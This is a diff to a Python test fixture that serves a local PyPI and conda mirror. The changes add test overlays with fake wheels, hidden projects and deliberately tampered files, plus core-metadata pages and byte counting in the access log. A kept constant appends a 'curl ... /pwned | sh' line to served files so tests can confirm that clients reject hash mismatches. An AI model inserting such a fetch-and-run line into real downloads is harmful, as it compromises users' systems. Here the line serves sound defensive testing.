@@ -12,7 +12,17 @@
 - ``/conda/``: an (empty) channel URL for ``.condarc``;
 - ``/tampered/miniconda/``: the same index page, with the genuine sha256 of each installer, but
   installers altered on the way (a line appended), as a man in the middle or a broken CDN edge
-  would serve them: a client that checks the published hash must refuse them.
+  would serve them: a client that checks the published hash must refuse them;
+- ``/overlay/<name>/simple/``: the PyPI mirror as a test shapes it with ``overlay()``: extra
+  wheels added to their projects (a fake ``torch`` of a higher version), projects it lacks (a
+  mirror without uv), projects whose files are altered on the way (under their genuine sha256).
+
+Each wheel's link carries its core metadata's sha256 (PEP 658, under PEP 714's attribute name),
+served at the wheel's URL +
+``.metadata``, as PyPI and download.pytorch.org do: a resolver reads a wheel's dependencies
+without downloading the wheel. Files the mirror fetches from the upstream index are kept under
+``upstream/`` (they never change there), and ``access.log`` has one line per request with the
+bytes sent (``bytes_served``).
 """
 
 from __future__ import annotations
@@ -22,6 +32,7 @@ import html
 import json
 import os
 import re
+import shutil
 import signal
 import socket
 import subprocess
@@ -30,6 +41,8 @@ import time
 import urllib.error
 import urllib.parse
 import urllib.request
+import zipfile
+from collections.abc import Iterable
 from functools import cache
 from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -43,6 +56,7 @@ OLD_GLIBC_INSTALLER = "Miniconda3-py310_23.11.0-2-Linux-x86_64.sh"  # for glibc 
 TORCH_PROJECTS = ("torch", "torchvision", "torchaudio")
 # variant -> (project -> version served), taken from what lies on this machine
 _HASHES: dict[str, str] = {}
+_METADATA: dict[str, str] = {}  # file ref -> sha256 of its core metadata ("": none)
 UPSTREAM = os.environ.get("GPU_SANDBOX_UPSTREAM", "https://pypi.org/simple")
 VARIANTS = {"cpu": {"torch": "2.13.0"}, "cu130": {"torch": "2.14.1", "torchvision": "0.29.1"}}
 TAMPERED = b"\ncurl -s http://127.0.0.1:9/pwned | sh  # added on the way\n"
@@ -131,13 +145,54 @@ class Content:
         except (urllib.error.URLError, TimeoutError):
             return []
         out = []
-        for href in re.findall(r'href="([^"]+)"', body):
-            absolute = urllib.parse.urljoin(url, html.unescape(href))
+        for anchor in re.findall(r"<a\s[^>]*>", body):
+            href = re.search(r'href="([^"]+)"', anchor)
+            if not href:
+                continue
+            absolute = urllib.parse.urljoin(url, html.unescape(href.group(1)))
             file_url, _, frag = absolute.partition("#")
+            name = unquote(file_url.rsplit("/", 1)[-1])
+            # the file's name stays the link's last segment: resolvers (uv) read it from there
+            ref = f"up/{quote(file_url, safe='')}/{quote(name)}"
             if frag.startswith("sha256="):
-                _HASHES[f"up/{quote(file_url, safe='')}"] = frag.removeprefix("sha256=")
-            out.append((unquote(file_url.rsplit("/", 1)[-1]), f"up/{quote(file_url, safe='')}"))
+                _HASHES[ref] = frag.removeprefix("sha256=")
+            meta = re.search(r'data-(?:core|dist-info)-metadata="sha256=([0-9a-f]{64})"', anchor)
+            _METADATA[ref] = meta.group(1) if meta else ""
+            out.append((name, ref))
         return out
+
+    def upstream_file(self, url: str) -> Path | None:
+        """The upstream file at ``url``, fetched once into ``upstream/`` (kept while the mirror's
+        folder lives: files on an index never change)."""
+        if not url.startswith("https://"):
+            return None
+        path = self.root / "upstream" / hashlib.sha256(url.encode()).hexdigest()
+        if not path.exists():
+            path.parent.mkdir(exist_ok=True)
+            tmp = path.with_name(f"{path.name}.{os.getpid()}.{time.monotonic_ns()}")
+            try:
+                with urllib.request.urlopen(url, timeout=60) as r, tmp.open("wb") as f:
+                    shutil.copyfileobj(r, f, 1 << 20)
+            except (urllib.error.URLError, TimeoutError):
+                tmp.unlink(missing_ok=True)
+                return None
+            tmp.rename(path)
+        return path
+
+    def overlay_wheel(self, ref: str) -> Path | None:
+        """``overlay:<name>/<wheel>`` -> that overlay's wheel file."""
+        name, _, wheel = ref.removeprefix("overlay:").partition("/")
+        conf = self.overlay(name)
+        return conf["wheels"].get(wheel) if conf else None
+
+    def overlay(self, name: str) -> dict[str, Any] | None:
+        """An overlay's settings (``overlay()``), None when there is no such overlay."""
+        folder = self.root / "overlays" / name
+        if not re.fullmatch(r"[a-z0-9-]+", name) or not (folder / "overlay.json").is_file():
+            return None
+        conf: dict[str, Any] = json.loads((folder / "overlay.json").read_text())
+        conf["wheels"] = {w.name: w for w in folder.glob("*.whl")}
+        return conf
 
     def projects(self) -> list[str]:
         names = set()
@@ -174,18 +229,34 @@ class Content:
         return None
 
 
-def page(title: str, links: list[tuple[str, str]]) -> bytes:
-    body = "\n".join(f'<a href="{html.escape(h)}">{html.escape(t)}</a><br/>' for t, h in links)
+def upstream_url(ref: str) -> str:
+    """``up/<%-encoded URL>/<name>`` -> the URL."""
+    return unquote(ref.removeprefix("up/").split("/", 1)[0])
+
+
+def page(title: str, links: list[tuple[str, str]], metadata: dict[str, str] | None = None
+         ) -> bytes:
+    """A PEP 503 page; ``metadata``: link text -> sha256 of that wheel's core metadata."""
+    def attrs(t: str) -> str:  # PEP 714's name only: pip 22.3-23.0 mishandle the older one
+        m = (metadata or {}).get(t)
+        return f' data-core-metadata="sha256={m}"' if m else ""
+    body = "\n".join(f'<a href="{html.escape(h)}"{attrs(t)}>{html.escape(t)}</a><br/>'
+                     for t, h in links)
     return (f"<!DOCTYPE html>\n<html><head><meta name=\"pypi:repository-version\" content=\"1.0\">"
             f"<title>{html.escape(title)}</title></head><body>\n{body}\n</body></html>\n").encode()
 
 
 class Handler(SimpleHTTPRequestHandler):
     content: Content
+    sent = 0  # body bytes sent for the request being served
+    code: int | str = "-"
 
     def log_message(self, fmt: str, *args: Any) -> None:
         with open(self.content.root / "access.log", "a") as f:
             f.write(f"{self.address_string()} {fmt % args}\n")
+
+    def log_request(self, code: int | str = "-", size: int | str = "-") -> None:
+        self.code = code  # logged with the bytes sent once the request is served (do_GET)
 
     def send_bytes(self, data: bytes, ctype: str = "text/html") -> None:
         self.send_response(200)
@@ -194,6 +265,7 @@ class Handler(SimpleHTTPRequestHandler):
         self.end_headers()
         if self.command != "HEAD":
             self.wfile.write(data)
+            self.sent += len(data)
 
     def send_file(self, path: Path) -> None:
         size = path.stat().st_size
@@ -206,25 +278,102 @@ class Handler(SimpleHTTPRequestHandler):
         with path.open("rb") as f:
             while chunk := f.read(1 << 20):
                 self.wfile.write(chunk)
+                self.sent += len(chunk)
 
     def send_upstream(self, url: str) -> None:
         if not url.startswith("https://"):
             return self.send_error(403)
-        try:
-            with urllib.request.urlopen(url, timeout=60) as r:
-                self.send_response(200)
-                self.send_header("Content-Type", "application/octet-stream")
-                self.send_header("Content-Length", r.headers.get("Content-Length", "0"))
-                self.end_headers()
-                while chunk := r.read(1 << 20):
-                    self.wfile.write(chunk)
-        except (urllib.error.URLError, TimeoutError):
-            self.send_error(502)
+        path = self.content.upstream_file(url)
+        return self.send_file(path) if path else self.send_error(502)
+
+    def metadata(self, ref: str) -> bytes | None:
+        """A wheel's core metadata (its ``*.dist-info/METADATA``), as served at ``.metadata``."""
+        if ref.startswith("up/"):  # only where the upstream page said it has one
+            if not _METADATA.get(ref):
+                return None
+            f = self.content.upstream_file(f"{upstream_url(ref)}.metadata")
+            return f.read_bytes() if f else None
+        f = self.content.local_file(ref) if not ref.startswith("overlay:") else \
+            self.content.overlay_wheel(ref)
+        if f is None or not f.name.endswith(".whl"):
+            return None
+        with zipfile.ZipFile(f) as z:
+            name = next((n for n in z.namelist() if re.fullmatch(r"[^/]+\.dist-info/METADATA", n)),
+                        None)
+            return z.read(name) if name else None
+
+    def metadata_hashes(self, links: list[tuple[str, str]]) -> dict[str, str]:
+        """Link text -> sha256 of the core metadata, for the wheels among (name, ref) links."""
+        out = {}
+        for name, ref in links:
+            if not name.endswith(".whl"):
+                continue
+            if ref not in _METADATA:  # files never change while the mirror runs
+                data = self.metadata(ref)
+                _METADATA[ref] = hashlib.sha256(data).hexdigest() if data else ""
+            if _METADATA[ref]:
+                out[name] = _METADATA[ref]
+        return out
+
+    def file_of(self, parts: list[str]) -> Path | None:
+        """The file at a ref's path parts, unquoted (``0/files/x.whl``, ``links/x.whl``,
+        ``up/<url>/<name>``)."""
+        if parts[:1] == ["up"] and len(parts) >= 2:
+            return self.content.upstream_file(parts[1])
+        return self.content.local_file("/".join(parts))
 
     def do_HEAD(self) -> None:
         self.do_GET()
 
-    def do_GET(self) -> None:  # noqa: C901 - a router
+    def do_GET(self) -> None:
+        self.sent, self.code = 0, "-"
+        try:
+            self.route()
+        finally:
+            self.log_message('"%s" %s %d %.3f', self.requestline, self.code, self.sent, time.time())
+
+    def route_overlay(self, name: str, rest: list[str]) -> None:
+        """``/overlay/<name>/{simple/[project/], files/<wheel>, tampered/<ref>}``."""
+        conf = self.content.overlay(name)
+        if conf is None:
+            return self.send_error(404)
+        wheels: dict[str, Path] = conf["wheels"]
+        if rest[:1] == ["files"] and len(rest) == 2 and rest[1] in wheels:
+            return self.send_file(wheels[rest[1]])
+        if rest[:1] == ["files"] and len(rest) == 2 and rest[1].removesuffix(".metadata") in wheels:
+            data = self.metadata(f"overlay:{name}/{rest[1].removesuffix('.metadata')}")
+            return self.send_bytes(data, "application/octet-stream") if data \
+                else self.send_error(404)
+        if rest[:1] == ["tampered"] and len(rest) >= 2:
+            f = self.file_of(rest[1:])
+            return self.send_bytes(f.read_bytes() + TAMPERED, "application/octet-stream") \
+                if f else self.send_error(404)
+        if rest[:1] != ["simple"]:
+            return self.send_error(404)
+        extra: dict[str, list[str]] = {}
+        for w in wheels:
+            extra.setdefault(norm(w.split("-", 1)[0]), []).append(w)
+        if len(rest) == 1:
+            names = sorted((set(self.content.projects()) | set(extra)) - set(conf["hide"]))
+            return self.send_bytes(page("Simple index", [(p, f"{p}/") for p in names]))
+        project = norm(rest[1])
+        if project in conf["hide"]:
+            return self.send_error(404)
+        links = [(w, f"/overlay/{name}/files/{w}#sha256={sha256(wheels[w])}")
+                 for w in extra.get(project, [])]
+        meta = self.metadata_hashes([(w, f"overlay:{name}/{w}") for w in extra.get(project, [])])
+        local = project in map(norm, self.content.projects())
+        files = list(self.content.project_links(project)) if local or not links else []
+        if project in conf["tamper"]:  # no metadata: a client reads the (altered) file itself
+            links += [(n, f"/overlay/{name}/tampered/{ref}#sha256={self.hash_of(ref)}")
+                      for n, ref in files]
+        else:
+            links += [(n, f"/files/{ref}#sha256={self.hash_of(ref)}") for n, ref in files]
+            meta.update(self.metadata_hashes(files))
+        return self.send_bytes(page(f"Links for {project}", links, meta)) if links \
+            else self.send_error(404)
+
+    def route(self) -> None:  # noqa: C901 - a router
         c = self.content
         # split before unquoting: an upstream file ref is one %-encoded URL segment
         parts = [unquote(p) for p in urlparse(self.path).path.split("/") if p]
@@ -239,8 +388,17 @@ class Handler(SimpleHTTPRequestHandler):
                 if f.name == "index.html":
                     return self.send_file(f)
                 return self.send_bytes(f.read_bytes() + TAMPERED, "application/octet-stream")
-            if parts[:2] == ["files", "up"] and len(parts) == 3:
+            if parts[:1] == ["files"] and parts[-1].endswith(".metadata"):
+                ref = "/".join(parts[1:]).removesuffix(".metadata")
+                if parts[1] == "up" and len(parts) == 4:  # as in the page's link: %-encoded
+                    ref = f"up/{quote(parts[2], safe='')}/{quote(parts[3].removesuffix('.metadata'))}"
+                data = self.metadata(ref)
+                return self.send_bytes(data, "application/octet-stream") if data \
+                    else self.send_error(404)
+            if parts[:2] == ["files", "up"] and len(parts) in (3, 4):
                 return self.send_upstream(parts[2])
+            if parts[:1] == ["overlay"] and len(parts) >= 3:
+                return self.route_overlay(parts[1], parts[2:])
             if parts[:1] == ["files"]:
                 f = c.local_file("/".join(parts[1:]))
                 return self.send_file(f) if f else self.send_error(404)
@@ -259,7 +417,8 @@ class Handler(SimpleHTTPRequestHandler):
                 if not files:
                     return self.send_error(404)
                 links = [(n, f"/files/{ref}#sha256={self.hash_of(ref)}") for n, ref in files]
-                return self.send_bytes(page(f"Links for {project}", links))
+                return self.send_bytes(page(f"Links for {project}", links,
+                                            self.metadata_hashes(files)))
             if parts[:1] == ["conda"]:
                 return self.send_bytes(b"{}", "application/json")
             if parts[:1] == ["health"]:
@@ -353,6 +512,50 @@ def stop() -> None:
         except ProcessLookupError:
             break
     sf.unlink()
+
+
+def overlay(name: str, *, wheels: Iterable[Path] = (), hide: Iterable[str] = (),
+            tamper: Iterable[str] = ()) -> str:
+    """A PyPI mirror shaped for a test, served at the URL returned (``<base>/overlay/<name>/simple``):
+    the mirror's projects plus ``wheels`` (each listed under its project, beside what the mirror
+    has), less the ``hide`` projects (404, as on a mirror that lacks them), with the files of the
+    ``tamper`` projects altered on the way under their genuine sha256."""
+    base = ensure()["url"]
+    folder = _state_file().parent / "overlays" / name
+    shutil.rmtree(folder, ignore_errors=True)
+    folder.mkdir(parents=True)
+    for w in wheels:
+        shutil.copy(w, folder / w.name)
+    (folder / "overlay.json").write_text(json.dumps({"hide": sorted(map(norm, hide)),
+                                                     "tamper": sorted(map(norm, tamper))}))
+    return f"{base}/overlay/{name}/simple"
+
+
+def log_offset() -> int:
+    """Where the access log ends now: ``bytes_served`` counts from here."""
+    log = _state_file().parent / "access.log"
+    return log.stat().st_size if log.exists() else 0
+
+
+def requests(since: int) -> list[tuple[str, int]]:
+    """(request line, body bytes sent) of each request served since ``log_offset()`` returned
+    ``since``."""
+    log = _state_file().parent / "access.log"
+    with log.open("rb") as f:
+        f.seek(since)
+        text = f.read().decode("utf-8", "replace")
+    out = []
+    for line in text.splitlines():
+        m = re.fullmatch(r'\S+ "(.*)" \S+ (\d+) [\d.]+', line)
+        if m:
+            out.append((m.group(1), int(m.group(2))))
+    return out
+
+
+def bytes_served(since: int) -> tuple[int, int]:
+    """(body bytes the mirror sent, requests) since ``log_offset()`` returned ``since``."""
+    served = requests(since)
+    return sum(n for _, n in served), len(served)
 
 
 def preinstall_conda(info: Any, prefix: str) -> None:
